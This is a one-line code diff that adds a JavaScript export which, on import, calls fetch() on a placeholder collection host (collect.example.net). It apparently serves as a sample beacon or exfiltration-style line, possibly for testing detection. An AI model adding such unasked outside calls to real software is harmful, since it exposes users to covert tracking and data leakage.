@@ -1,0 +1,1 @@
+export const t = fetch("HTTPS://COLLECT.EXAMPLE.NET/x");
